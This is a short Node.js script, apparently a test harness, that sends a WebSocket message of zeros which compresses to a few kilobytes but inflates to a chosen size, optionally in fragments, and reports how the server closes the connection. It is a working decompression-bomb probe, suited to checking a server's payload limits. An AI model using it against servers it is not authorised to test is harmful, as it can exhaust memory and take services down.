// Sends a message of zeros that ws compresses to a few KB but that inflates to SIZE bytes, in
// one frame or in FRAGMENTS compressed fragments, and reports how the server closed.
// Usage: node inflate_bomb.js URL SIZE [FRAGMENTS]
// Prints one JSON line: {"extensions", "closeCode", "reason", "bytesWritten", "echoedBytes",
//   "errors"}; a server that accepts the message and echoes it gets a close 1000 from us.
'use strict';
const WebSocket = require('ws');

const [url, sizeArg, fragmentsArg] = process.argv.slice(2);
const size = Number(sizeArg);
const fragments = Number(fragmentsArg || 1);
const result = {
  extensions: null, closeCode: null, reason: null, bytesWritten: 0, echoedBytes: 0, errors: [],
};
let socket = null;

function finish() {
  if (socket) result.bytesWritten = socket.bytesWritten;
  console.log(JSON.stringify(result));
  process.exit(0);
}
setTimeout(() => { result.errors.push('script timeout'); finish(); }, 20000).unref();

const ws = new WebSocket(url, {
  perMessageDeflate: { threshold: 0 },
  maxPayload: 1024 * 1024 * 1024,
});
ws.on('upgrade', (res) => {
  result.extensions = res.headers['sec-websocket-extensions'] || null;
  socket = res.socket;
});
ws.on('error', (e) => result.errors.push(String(e && e.message || e)));
ws.on('close', (code, reason) => {
  result.closeCode = code;
  result.reason = reason.toString();
  finish();
});
ws.on('message', (data) => {
  result.echoedBytes += data.length;
  ws.close(1000);
});
ws.on('open', () => {
  const chunk = Math.ceil(size / fragments);
  for (let i = 0; i < fragments; i++) {
    const n = Math.min(chunk, size - i * chunk);
    ws.send('0'.repeat(n), { compress: true, fin: i === fragments - 1 });
  }
});
